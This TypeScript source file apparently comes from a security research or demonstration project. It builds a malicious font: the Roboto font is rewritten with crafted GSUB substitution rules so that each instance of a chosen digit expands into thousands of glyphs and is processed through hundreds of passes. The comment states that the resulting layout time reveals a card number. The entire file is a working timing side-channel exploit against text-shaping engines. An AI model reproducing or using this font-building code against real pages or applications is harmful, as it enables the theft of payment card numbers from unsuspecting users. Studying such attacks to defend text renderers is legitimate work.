import { readFileSync } from 'node:fs'
import { create } from 'fontkit'
import { convert } from 'fontverter'
import { readTables, uint16, uint32, writeTables } from '../../scripts/fonts/sfnt'
import { root } from '../../scripts/paths'

/** HarfBuzz aborts the layout of a text with more than about 16,000 glyphs. */
const maxGlyphs = 14_000
const steps = 2
/** The number of further rules that visit each glyph. */
const passes = 400

const table = (parts: readonly number[][]): number[] => {
  const offsets: number[] = []
  let offset = 2 + 2 * parts.length
  for (const part of parts) {
    offsets.push(offset)
    offset += part.length
  }
  return [...uint16(parts.length, ...offsets), ...parts.flat()]
}

const coverage = (glyph: number) => uint16(1, 1, glyph)

/** Creates a rule that replaces one glyph with many (GSUB lookup type 2). */
const multiple = (glyph: number, into: number, copies: number): number[] => {
  const sequence = uint16(copies, ...Array(copies).fill(into))
  return [...uint16(2, 0, 1, 8), ...uint16(1, 8 + sequence.length, 1, 8), ...sequence, ...coverage(glyph)]
}

/** Creates a rule that replaces one glyph with another (GSUB lookup type 1). */
const single = (from: number, to: number): number[] => [
  ...uint16(1, 0, 1, 8),
  ...uint16(1, 6, to - from),
  ...coverage(from),
]

/**
 * Builds a font whose layout is slow for each `digit` in a text, and fast for other digits. Its
 * substitution table replaces the digit with thousands of glyphs, and each of them repeatedly. The
 * layout time of such a font reveals a card number.
 * @param text the text that must be slow. The fewer slow digits it has, the more glyphs replace
 * each of them.
 */
export const buildAttackFont = async (digit: string, text: string): Promise<Buffer> => {
  const copies = Math.floor((maxGlyphs / (text.split(digit).length - 1)) ** (1 / steps))
  const source = readFileSync(`${root}node_modules/@fontsource-variable/roboto/files/roboto-latin-wght-normal.woff2`)
  const file = await convert(source, 'truetype')
  const font = create(file)
  if (!('glyphForCodePoint' in font)) throw new Error('The file is a font collection.')
  const glyphOf = (character: string) => font.glyphForCodePoint(character.charCodeAt(0)).id
  const [from, first, second] = [glyphOf(digit), glyphOf("'"), glyphOf('|')]
  const lookups = [
    multiple(from, first, copies),
    ...Array.from({ length: steps - 1 }, () => multiple(first, first, copies)),
    ...Array.from({ length: passes }, (_, pass) => (pass % 2 === 0 ? single(first, second) : single(second, first))),
  ]
  const indexes = lookups.map((_, index) => index)
  const langSys = uint16(0, 0xffff, 1, 0)
  const scripts = ['DFLT', 'latn']
  const scriptList = [
    ...uint16(scripts.length),
    ...scripts.flatMap((tag, index) => [
      ...letters(tag),
      ...uint16(2 + 6 * scripts.length + index * (4 + langSys.length)),
    ]),
    ...scripts.flatMap(() => [...uint16(4, 0), ...langSys]),
  ]
  const featureList = [...uint16(1), ...letters('ccmp'), ...uint16(8), ...uint16(0, indexes.length, ...indexes)]
  const scriptOffset = 10
  const featureOffset = scriptOffset + scriptList.length
  const header = [...uint32(0x10000), ...uint16(scriptOffset, featureOffset, featureOffset + featureList.length)]
  const gsub = new Uint8Array([...header, ...scriptList, ...featureList, ...table(lookups)])
  const tables = readTables(file)
  tables.delete('GPOS')
  tables.delete('GDEF')
  return writeTables(tables.set('GSUB', gsub))
}

const letters = (tag: string) => [...tag].map((letter) => letter.charCodeAt(0))
